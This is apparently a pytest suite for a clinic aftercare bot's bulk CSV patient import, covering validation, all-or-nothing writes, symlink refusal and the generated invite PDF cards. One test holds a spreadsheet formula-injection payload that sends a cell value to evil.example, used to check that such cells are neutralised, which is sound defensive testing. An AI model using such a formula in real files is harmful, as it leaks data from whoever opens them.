"""``aftercare import``: every row checked first, all or nothing, the links as a CSV and as cards.

Run against the test's own database (SQLite, or PostgreSQL with AFTERCARE_TEST_DB=postgres); the
imported links are opened by a patient through the real application and the fake Bot API.
"""

from __future__ import annotations

import asyncio
import csv
import io
import stat
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, text
from sqlalchemy.exc import IntegrityError
from sqlmodel import Session, select

from bot.app import load_messages
from bot.bulk_import import run_import
from bot.cli import main
from bot.settings import Settings
from jobs.actors import staff
from jobs.patients.enrollment import enroll_patient
from jobs.patients.lifecycle import LifecycleEvent, record_new_patients
from jobs.storage.models import Enrollment, Event, Invite, Patient, Reminder
from jobs.storage.states import PatientStatus
from tests.conftest import PATIENT_ID, bot_env

pypdf = pytest.importorskip("pypdf")

HEADER = "name,session_at,session,series,protocol,tz,lang,phone,external_id\n"


def write(tmp_path: Path, text: str, name: str = "patients.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def do_import(harness, path: Path, **kwargs):
    lines = {"out": [], "err": []}
    settings = harness.services.settings
    outcome = run_import(path, engine=harness.services.store.engine, settings=settings,
                         catalog=harness.services.catalog, bot_username="aftercare_test_bot",
                         now=harness.clock(), say=lines["out"].append, complain=lines["err"].append, **kwargs)
    return outcome, lines


def count(harness, model) -> int:
    with Session(harness.services.store.engine) as session:
        return session.exec(select(func.count()).select_from(model)).one()


async def test_import_enrolls_every_row_and_its_link_works(harness, fake_api, clock, tmp_path):
    now = clock()
    rows = [
        f"Anna K,{(now - timedelta(hours=1)).isoformat()},1,,,,,,A-1",
        f"María José Ruiz,{(now - timedelta(hours=2)).astimezone().isoformat()},2/4,,microneedling_peel_laser,"
        "Europe/London,es,+34 600 111 222,A-2",
        "Ζωή Παπαδοπούλου,,,,,,,600 333 444,",
    ]
    path = write(tmp_path, HEADER + "\n".join(rows) + "\n")
    outcome, lines = do_import(harness, path)
    assert outcome.status == 0, lines
    assert count(harness, Patient) == 3 and count(harness, Enrollment) == 3 and count(harness, Invite) == 3
    with Session(harness.services.store.engine) as session:
        patients = session.exec(select(Patient).order_by(Patient.id)).all()
        events = session.exec(select(Event).where(Event.kind == "enrolled")).all()
        cycles = session.exec(select(Enrollment).order_by(Enrollment.id)).all()
    assert [p.name for p in patients] == ["Anna K", "María José Ruiz", "Ζωή Παπαδοπούλου"]
    assert patients[1].phone == "+34600111222" and patients[2].phone == "+34600333444"  # national: CLINIC_PHONE's
    assert patients[1].timezone == "Europe/London" and patients[1].locale == "es" and patients[1].series_length == 4
    assert [p.external_id for p in patients] == ["A-1", "A-2", None]
    assert all(p.booking_ref for p in patients) and len({p.booking_ref for p in patients}) == 3
    assert cycles[1].session_number == 2 and cycles[1].protocol_name == "microneedling_peel_laser"
    assert {(e.patient_id, e.actor, e.from_status, e.to_status, e.detail) for e in events} == {
        (p.id, "staff", "awaiting_link", "awaiting_link", "import") for p in patients}

    # The invites CSV: one line per patient, readable by its owner only.
    assert stat.S_IMODE(outcome.csv_path.stat().st_mode) == 0o600
    table = list(csv.DictReader(io.StringIO(outcome.csv_path.read_text(encoding="utf-8-sig"))))
    assert [line["name"] for line in table] == ["Anna K", "María José Ruiz", "Ζωή Παπαδοπούλου"]
    assert [line["row"] for line in table] == ["2", "3", "4"]
    assert [int(line["patient_id"]) for line in table] == [p.id for p in patients]

    # The cards: a PDF of one A4 page, private, whose QR code reads back as the link.
    assert stat.S_IMODE(outcome.pdf_path.stat().st_mode) == 0o600
    reader = pypdf.PdfReader(outcome.pdf_path)
    assert len(reader.pages) == 1
    assert "María José Ruiz" in reader.pages[0].extract_text()
    assert decode_first_qr(outcome.pdf_path) in {line["invite_url"] for line in table}

    # The link works like one from /enroll: the patient is greeted and the plan starts.
    token = table[0]["invite_url"].split("?start=")[1]
    await harness.send(PATIENT_ID, f"/start {token}")
    assert fake_api.texts(PATIENT_ID)[0].startswith("Hi Anna,")
    with Session(harness.services.store.engine) as session:
        assert session.get(Patient, patients[0].id).status == PatientStatus.ACTIVE


def decode_first_qr(pdf_path: Path) -> str:
    """Render the first page and decode a QR code on it (zxing-cpp); else decode the embedded image."""
    zxingcpp = pytest.importorskip("zxingcpp")
    try:
        import pypdfium2
    except ImportError:
        pypdfium2 = None
    if pypdfium2 is not None:
        page = pypdfium2.PdfDocument(str(pdf_path))[0]
        image = page.render(scale=2).to_pil()
    else:
        image = pypdf.PdfReader(pdf_path).pages[0].images[0].image
    results = zxingcpp.read_barcodes(image)
    assert results, "no QR code found on the page"
    return results[0].text


async def test_a_bad_row_imports_nothing_and_each_bad_row_is_one_line(harness, clock, tmp_path):
    now = clock()
    rows = [
        "Anna K,,,,,,,,",
        "Bea,tomorrow,,,,,,,",                                    # row 3: session_at
        "Carla,,7/3,,,,,,",                                       # row 4: session
        f"Dora,{(now + timedelta(days=2)).isoformat()},,,botox,Mars/Olympus,xx,12,",  # row 5: several columns
        ",,,,,,,,",                                               # an empty line: passed over
        "Eva,,,,,,,+1 000,",                                      # row 7: phone
        f"Fran,{(now - timedelta(days=90)).isoformat()},,,,,,,",  # row 8: too old
        "Gala,2026-11-24 15:30,,,,,,,ref with spaces",            # row 9: no offset; a bad external id
    ]
    path = write(tmp_path, HEADER + "\n".join(rows) + "\n")
    outcome, lines = do_import(harness, path)
    assert outcome.status == 1
    bad = [line for line in lines["err"] if line.startswith("row ")]
    assert [line.split(":")[0] for line in bad] == ["row 3", "row 4", "row 5", "row 7", "row 8", "row 9"]
    # A time without an offset is read in CLINIC_TIMEZONE by the import (issue 19); only the id is wrong there.
    assert "session_at: tomorrow is not a date and time: use ISO 8601 with an offset" in bad[0]  # the API's words
    assert "session: Session 7 doesn't fit a series of 3" in bad[1]
    assert "session_at: That session time is in the future" in bad[2]
    assert "protocol: There is no protocol botox" in bad[2]
    assert "tz: Mars/Olympus is not a time zone" in bad[2] and "lang: There are no texts in xx" in bad[2]
    assert "phone: +1 000 is not a phone number" in bad[3]
    assert "session_at: That session was more than 60 days ago" in bad[4]
    assert "session_at" not in bad[5]
    assert "external_id: ref with spaces can't be an external id" in bad[5]
    assert "nothing imported: 6 bad row(s) of 7" in lines["err"][-1]
    assert count(harness, Patient) == 0 and count(harness, Reminder) == 0 and count(harness, Event) == 0
    assert not list(tmp_path.glob("*-invites.*"))


async def test_external_ids_already_here_are_skipped_and_repeated_ones_are_bad(harness, clock, tmp_path):
    first = write(tmp_path, HEADER + "Anna K,,,,,,,,A-1\n", "first.csv")
    assert do_import(harness, first)[0].status == 0
    again = write(tmp_path, HEADER + "Anna K,,,,,,,,A-1\nBea,,,,,,,,B-1\n", "again.csv")
    outcome, lines = do_import(harness, again)
    assert outcome.status == 0 and outcome.summary.patients == 1
    assert [line["name"] for line in csv.DictReader(io.StringIO(
        outcome.csv_path.read_text(encoding="utf-8-sig")))] == ["Bea"]
    assert any(line.startswith("row 2: external_id 'A-1' is patient") and "/invite" in line for line in lines["out"])
    assert count(harness, Patient) == 2
    twice = write(tmp_path, HEADER + "Carla,,,,,,,,C-1\nDora,,,,,,,,C-1\n", "twice.csv")
    outcome, lines = do_import(harness, twice)
    assert outcome.status == 1 and count(harness, Patient) == 2
    assert "row 3: external_id: The external id C-1 is already used by row 2 of this file." in lines["err"]


async def test_bulk_rows_are_those_enroll_patient_writes(harness, clock, tmp_path):
    """The bulk path bypasses no rule: the same input gives the same rows as the one-by-one path."""
    now, services = clock(), harness.services
    session_at = now - timedelta(hours=30)
    path = write(tmp_path, HEADER + f"Anna K,{session_at.isoformat()},2,,,,,,\n")
    assert do_import(harness, path, cards=False)[0].status == 0
    with Session(services.store.engine) as session:
        enroll_patient(session, name="Anna K", protocol=services.catalog.protocol("microneedling"),
                       session_at=session_at, session_number=2, series_length=3,
                       zone=services.settings.clinic_timezone, locale="", quiet_hours=services.settings.quiet_hours,
                       invite_ttl=services.settings.invite_ttl, enrolled_by=None, now=now)
        session.commit()
        patients = session.exec(select(Patient).order_by(Patient.id)).all()

        def shape(patient_id):
            reminders = session.exec(select(Reminder).where(Reminder.patient_id == patient_id)
                                     .order_by(Reminder.id)).all()
            return [(r.step_key, r.text_key, r.kind, r.planned_at, r.due_at, r.expires_at, r.status, r.outcome,
                     r.at_spec, r.not_before_spec, r.expires_spec, r.nudge_after_spec, r.alert_after_spec)
                    for r in reminders]

        assert shape(patients[0].id) == shape(patients[1].id)
        # As stored, too (SQLite compares datetimes as text): the bulk path writes what the ORM writes.
        stored = [session.execute(text("SELECT step_key, planned_at, due_at, expires_at FROM reminder "
                                       "WHERE patient_id = :p ORDER BY id"), {"p": p.id}).all() for p in patients]
        assert stored[0] == stored[1]
        cycles = [session.execute(text("SELECT session_at, created_at FROM enrollment WHERE patient_id = :p"),
                                  {"p": p.id}).all() for p in patients]
        assert cycles[0] == cycles[1]
        assert any(row[6] == "skipped" for row in shape(patients[0].id))  # last evening's check-in went stale
        keep = ("name", "status", "timezone", "locale", "series_length", "phone", "external_id", "chat_id")
        assert [getattr(patients[0], k) for k in keep] == [getattr(patients[1], k) for k in keep]
        events = session.exec(select(Event).order_by(Event.id)).all()
        assert [(e.kind, e.from_status, e.to_status) for e in events] == [("enrolled", "awaiting_link",
                                                                           "awaiting_link")] * 2


def test_the_bulk_event_refuses_what_needs_apply_event(tmp_path):
    with pytest.raises(ValueError, match="not a bulk event"):
        record_new_patients(None, patient_ids=[1], event=LifecycleEvent.LINK, cause=staff(1),
                            now=None)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="not a bulk event"):
        record_new_patients(None, patient_ids=[1], event=LifecycleEvent.CANCEL, cause=staff(1),
                            now=None)  # type: ignore[arg-type]


async def test_a_row_whose_plan_is_all_past_is_imported_with_a_warning(harness, clock, tmp_path):
    # Session 2 of 3: after the last one the 90-day outcome question would still be ahead.
    path = write(tmp_path, HEADER + f"Anna K,{(clock() - timedelta(days=59)).isoformat()},2,,,,,,\n")
    outcome, lines = do_import(harness, path, cards=False)
    assert outcome.status == 0 and count(harness, Patient) == 1
    assert any("row 2: every message of patient 1's plan is already past" in line for line in lines["err"])


async def test_a_patient_enrolled_between_checking_and_writing_takes_no_id_of_the_import(
        harness, clock, tmp_path, monkeypatch):
    """The rows are planned while the file is checked, outside any transaction; their ids are drawn in the
    writing transaction, so a patient enrolled meanwhile (/enroll) keeps theirs and every link names its row."""
    from bot import bulk_import

    services, real_prepare = harness.services, bulk_import.prepare_import
    calls = []

    def prepare_while_staff_enroll(*args, **kwargs):
        if not calls:
            services.store.call(enroll_patient, name="Walk In", protocol=services.catalog.protocol("microneedling"),
                                session_at=clock(), session_number=1, series_length=3,
                                zone=services.settings.clinic_timezone, locale="", quiet_hours=services.settings.quiet_hours,
                                invite_ttl=services.settings.invite_ttl, enrolled_by=1, now=clock())
        calls.append(1)
        return real_prepare(*args, **kwargs)

    monkeypatch.setattr(bulk_import, "prepare_import", prepare_while_staff_enroll)
    path = write(tmp_path, HEADER + "Anna K,,,,,,,,\nBea,,,,,,,,\n")
    outcome, lines = do_import(harness, path, cards=False)
    assert outcome.status == 0 and calls, lines
    with Session(services.store.engine) as session:
        names = {p.id: p.name for p in session.exec(select(Patient))}
    table = list(csv.DictReader(io.StringIO(outcome.csv_path.read_text(encoding="utf-8-sig"))))
    assert {int(line["patient_id"]): line["name"] for line in table} == {
        pid: name for pid, name in names.items() if name != "Walk In"}
    assert sorted(names.values()) == ["Anna K", "Bea", "Walk In"]
    assert count(harness, Invite) == 3 and count(harness, Enrollment) == 3


async def test_a_real_import_writes_a_window_at_a_time_and_stays_all_or_nothing(
        harness, tmp_path, monkeypatch):
    """Memory flat in the file's size: the rows are planned, spooled and written a window at a time (never
    all held at once); a window the database refuses after others were written leaves nothing at all."""
    from bot import bulk_import

    monkeypatch.setattr(bulk_import, "WRITE_WINDOW", 2)
    real_number, real_write = bulk_import.numbered_rows, bulk_import.write_rows
    built: list[int] = []

    def number(rows, **kwargs):
        built.append(len(rows))
        return real_number(rows, **kwargs)

    monkeypatch.setattr(bulk_import, "numbered_rows", number)
    names = ["Anna K", "Bea", "Carla", "Dora", "Eva"]
    path = write(tmp_path, "name,external_id\n" + "".join(f"{name},E-{n}\n" for n, name in enumerate(names)))
    outcome, lines = do_import(harness, path, cards=False)
    assert outcome.status == 0, lines
    assert built == [2, 2, 1] and outcome.summary.patients == 5 and count(harness, Patient) == 5
    table = list(csv.DictReader(io.StringIO(outcome.csv_path.read_text(encoding="utf-8-sig"))))
    assert [line["name"] for line in table] == names and [line["row"] for line in table] == ["2", "3", "4", "5", "6"]

    # The second window refused (a reference enrolled meanwhile, say): the first one's rows go too.
    def refuse_the_second(session, rows, **kwargs):
        if len(built) == 5:
            raise IntegrityError("INSERT", {}, Exception("UNIQUE constraint failed: patient.external_id"))
        return real_write(session, rows, **kwargs)

    monkeypatch.setattr(bulk_import, "write_rows", refuse_the_second)
    again = write(tmp_path, "name\n" + "".join(f"{name} II\n" for name in names), "again.csv")
    outcome, lines = do_import(harness, again, cards=False)
    assert outcome.status == 1 and "nothing imported" in lines["err"][-1]
    assert built[3:] == [2, 2] and count(harness, Patient) == 5 and count(harness, Invite) == 5
    assert sorted(p.name for p in tmp_path.glob("*invites*")) == ["patients-invites.csv"]  # none, not a partial


async def test_check_only_writes_nothing(harness, tmp_path):
    path = write(tmp_path, HEADER + "Anna K,,,,,,,,\n")
    outcome, lines = do_import(harness, path, check_only=True)
    assert outcome.status == 0 and "would be imported" in lines["out"][-1]
    assert count(harness, Patient) == 0 and not list(tmp_path.glob("*-invites.*"))


async def test_the_command_asks_telegram_for_the_username_and_refuses_to_overwrite(
        harness, fake_api, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    env = bot_env(fake_api, harness.services.settings.database_url)
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    path = write(tmp_path, HEADER + "Anna K,,,,,,,,\nBea,,,,,,,,\n")
    assert await asyncio.to_thread(main, ["import", str(path)]) == 0
    out = capsys.readouterr().out
    assert "imported 2 patient(s)" in out and "1 page(s), 2 cards" in out
    links = (tmp_path / "patients-invites.csv").read_text(encoding="utf-8-sig")
    assert "https://t.me/aftercare_test_bot?start=" in links
    # A second run would overwrite the only copy of those links: refused before anything is written.
    assert await asyncio.to_thread(main, ["import", str(path)]) == 2
    assert "already exists" in capsys.readouterr().err
    assert count(harness, Patient) == 2
    # The header must name known columns.
    bad = write(tmp_path, "name,birthday\nAnna,1990-01-01\n", "bad.csv")
    assert await asyncio.to_thread(main, ["import", str(bad)]) == 2
    assert "unknown column(s) 'birthday'" in capsys.readouterr().err
    # Cards again from the CSV (a subset, say): the same links.
    assert await asyncio.to_thread(main, ["cards", str(tmp_path / "patients-invites.csv"), "--out", str(tmp_path / "again.pdf")]) == 0
    assert len(pypdf.PdfReader(tmp_path / "again.pdf").pages) == 1
    # A link to nowhere where the cards would go is one line, not followed.
    (tmp_path / "linked.pdf").symlink_to(tmp_path / "nowhere.pdf")
    assert await asyncio.to_thread(main, ["cards", str(tmp_path / "patients-invites.csv"), "--out",
                                          str(tmp_path / "linked.pdf")]) == 2
    assert "linked.pdf is a symbolic link" in capsys.readouterr().err
    assert not (tmp_path / "nowhere.pdf").exists()


def test_cards_render_names_in_many_scripts(tmp_path):
    from bot.invite_sheets import Card, FontChoice, invite_cards_pdf

    fonts = FontChoice()
    if fonts.primary is None:
        pytest.skip("no DejaVu Sans on this machine: the cards fall back to Helvetica (tested below)")
    names = ["María José Ruiz", "Ζωή Παπαδοπούλου", "Анна Каренина", "דוד כהן", "محمد عبد الله", "Łukasz Żółć"]
    cards = [Card(name=name, link=f"https://t.me/aftercare_test_bot?start=token{n:027d}", hint="Scan me")
             for n, name in enumerate(names)]
    data, report = invite_cards_pdf(cards, fonts=fonts)
    assert report.missing_glyphs == 0 and report.pages == 1
    (tmp_path / "cards.pdf").write_bytes(data)
    text = pypdf.PdfReader(tmp_path / "cards.pdf").pages[0].extract_text()
    assert "Анна Каренина" in text and "Ζωή" in text
    # A script DejaVu lacks: a fallback font on this machine is found, or the report says so.
    cjk = [Card(name="山田 花子", link="https://t.me/aftercare_test_bot?start=" + "x" * 32)]
    _, report = invite_cards_pdf(cjk, fonts=FontChoice())
    assert report.missing_glyphs == (0 if len(report.fonts) > 1 else 1)


def test_cards_without_any_font_file_fall_back_to_helvetica(monkeypatch):
    from bot import invite_sheets

    monkeypatch.setattr(invite_sheets, "system_font_files", lambda: [])
    data, report = invite_sheets.invite_cards_pdf(
        [invite_sheets.Card(name="Анна", link="https://t.me/aftercare_test_bot?start=" + "y" * 32)],
        fonts=invite_sheets.FontChoice())
    assert report.core_font_only and data.startswith(b"%PDF")


def test_settings_name_the_card_fonts(tmp_path):
    font = tmp_path / "clinic.ttf"
    font.write_bytes(b"")
    assert Settings.from_env({"CARD_FONTS": str(font)}, require_token=False).card_fonts == (font,)
    with pytest.raises(ValueError, match="CARD_FONTS: .* not found"):
        Settings.from_env({"CARD_FONTS": str(tmp_path / "none.ttf")}, require_token=False)
    assert load_messages  # the import reads the catalog the bot reads


async def test_no_cell_of_the_invites_csv_can_run_in_a_spreadsheet(harness, clock, tmp_path, monkeypatch):
    """A name or reference that a spreadsheet would take for a formula is written with a quote in front
    (OWASP's advice), and ``aftercare cards`` reads the name back as it was."""
    formula = '=HYPERLINK("https://evil.example/?"&F2,"Open")'
    path = write(tmp_path, "name,external_id\n" + f'"{formula.replace(chr(34), chr(34) * 2)}",@A-1\n'
                 "+Maria,-B2\n")
    outcome, lines = do_import(harness, path, cards=False)
    assert outcome.status == 0, lines
    table = list(csv.reader(io.StringIO(outcome.csv_path.read_text(encoding="utf-8-sig"))))
    assert [(line[2], line[3]) for line in table[1:]] == [("'" + formula, "'@A-1"), ("'+Maria", "'-B2")]
    for line in table:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line), line
    with Session(harness.services.store.engine) as session:  # the database keeps the names as given
        assert [p.name for p in session.exec(select(Patient).order_by(Patient.id))] == [formula, "+Maria"]
    from bot.invite_sheets import read_invite_csv

    assert [row["name"] for row in read_invite_csv(outcome.csv_path.read_text(encoding="utf-8"))] == [
        formula, "+Maria"]


async def test_a_dangling_symlink_where_the_invites_go_is_one_clear_line(harness, tmp_path):
    """The invites file is created new: a link to nowhere in its place is refused before anything is written."""
    path = write(tmp_path, "name\nAnna K\n")
    (tmp_path / "patients-invites.csv").symlink_to(tmp_path / "elsewhere.csv")
    outcome, lines = do_import(harness, path, cards=False)
    assert outcome.status == 2 and count(harness, Patient) == 0
    assert len(lines["err"]) == 1 and "symbolic link" in lines["err"][0], lines
    assert not (tmp_path / "elsewhere.csv").exists()


async def test_a_dangling_symlink_as_the_file_to_import_is_one_clear_line(harness, tmp_path):
    source = tmp_path / "patients.csv"
    source.symlink_to(tmp_path / "gone.csv")
    outcome, lines = do_import(harness, source)
    assert outcome.status == 2 and count(harness, Patient) == 0
    assert lines["err"] == [f"aftercare: import: no such file {str(source)!r}"]


async def test_a_cell_over_128_kib_is_one_clear_line(harness, tmp_path):
    """An unclosed quote swallows the rest of the file into one cell: one line naming the line, no traceback."""
    path = write(tmp_path, "name,external_id\nAnna K,A-1\n\"Bea" + " x" * 70_000 + "\n")
    for check_only in (True, False):
        outcome, lines = do_import(harness, path, check_only=check_only)
        assert outcome.status == 2 and count(harness, Patient) == 0
        assert lines["err"] == [f"aftercare: import: {path}: line 3: a cell is longer than 128 KiB: no patient's "
                                "value is that long (a quote left open?)"], lines


async def test_a_file_that_stops_being_utf8_half_way_is_one_clear_line(harness, tmp_path):
    path = tmp_path / "patients.csv"
    path.write_bytes(b"name\n" + b"Anna K\n" * 5_000 + "Beatriz Núñez\n".encode("latin-1"))
    outcome, lines = do_import(harness, path, check_only=True)
    assert outcome.status == 2
    assert len(lines["err"]) == 1 and 'not UTF-8 text: save it as "CSV UTF-8"' in lines["err"][0], lines


def test_rows_are_read_and_checked_a_window_at_a_time(harness, clock):
    """Checking never runs ahead of its window: the first verdicts come before the rest of the file is read,
    and each look-up of external ids asks about one window's."""
    from jobs.data.importing import Defaults, ImportRow, check_stream

    services = harness.services
    settings = services.settings
    defaults = Defaults(now=clock(), clinic_zone=settings.clinic_timezone, protocols=services.catalog.protocols,
                        default_protocol=settings.default_protocol, series_length=settings.series_length,
                        locales=services.catalog.locales, phone_region=settings.phone_region)
    read = 0

    def endless():
        nonlocal read
        while True:
            read += 1
            yield {"name": f"Patient {read}", "external_id": f"P-{read}"}

    asked: list[int] = []
    verdicts = check_stream(endless(), defaults=defaults, window=100,
                            lookup=lambda ids: asked.append(len(ids)) or {})
    first = [next(verdicts) for _ in range(150)]
    assert all(isinstance(item, ImportRow) for item in first)
    assert read == 200 and asked == [100, 100]


def test_the_first_row_of_each_external_id_is_remembered_through_growth():
    from jobs.data.importing import _digest, _FirstRows

    seen = _FirstRows()
    assert [seen.setdefault(_digest(f"EXT-{n}"), n + 2) for n in range(20_000)] == [None] * 20_000
    assert [seen.setdefault(_digest(f"EXT-{n}"), 99_999) for n in (0, 4_095, 19_999)] == [2, 4_097, 20_001]
    assert seen.setdefault(_digest("EXT-new"), 7) is None
